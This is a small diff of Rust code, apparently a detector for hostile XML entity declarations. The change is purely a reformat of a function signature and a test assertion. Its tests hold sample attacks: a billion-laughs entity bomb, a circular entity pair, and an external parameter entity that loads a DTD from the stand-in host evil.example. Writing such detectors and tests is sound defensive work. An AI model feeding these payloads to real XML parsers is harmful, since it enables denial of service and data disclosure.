@@ -65,7 +65,12 @@ fn external(entity: &Entity<'_>) -> Option<String> {
 }
 
 /// How many characters an entity comes to; deep chains and circles end at the bomb's measure.
-fn length<'t>(name: &'t str, all: &HashMap<&'t str, &'t str>, known: &mut HashMap<&'t str, u64>, depth: usize) -> u64 {
+fn length<'t>(
+    name: &'t str,
+    all: &HashMap<&'t str, &'t str>,
+    known: &mut HashMap<&'t str, u64>,
+    depth: usize,
+) -> u64 {
     if let Some(length) = known.get(name) {
         return *length;
     }
@@ -95,7 +100,10 @@ mod tests {
             bomb += &format!("<!ENTITY a{at} \"{}\">", format!("&a{};", at - 1).repeat(10));
         }
         assert!(traps(&bomb)[0].contains("billion laughs"));
-        assert!(traps("<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'>")[0].contains("http://evil.example/x.dtd"));
+        assert!(
+            traps("<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'>")[0]
+                .contains("http://evil.example/x.dtd")
+        );
         assert!(traps("<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">")[0].contains("billion laughs"), "a circle");
     }
 }
